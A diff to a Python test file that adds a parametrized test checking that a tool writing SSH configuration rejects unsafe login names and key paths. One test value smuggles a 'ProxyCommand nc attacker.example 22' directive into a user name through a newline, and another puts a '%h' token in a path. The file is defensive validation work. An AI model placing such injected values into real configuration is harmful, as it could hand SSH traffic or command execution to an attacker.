@@ -144,6 +144,18 @@ def test_an_unfit_key_stops_the_run_before_any_host_with_that_message(tmp_path):
     assert not (tmp_path / ".dev").exists()
 
 
+@pytest.mark.parametrize(("given", "named"), [
+    ({"ansible_user": "ops\n    ProxyCommand nc attacker.example 22"}, "The SSH logins must be plain user names"),
+    ({"outside_ansible_user": "ops\n"}, "The SSH logins must be plain user names"),
+    ({"rempart_ssh_identity_file": "/keys/id %h"}, "the paths must hold no space, quote or '%'"),
+], ids=["login-with-a-directive", "login-with-a-newline", "identity-with-a-token"])
+def test_a_login_or_path_that_would_change_the_ssh_config_stops_the_run(tmp_path, given, named):
+    result = write(tmp_path / ".dev", "-e", json.dumps(given))
+    assert result.returncode != 0
+    assert named in " ".join(result.stdout.split()), result.stdout
+    assert not (tmp_path / ".dev").exists()
+
+
 @pytest.mark.parametrize(
     ("line", "fit"),
     [
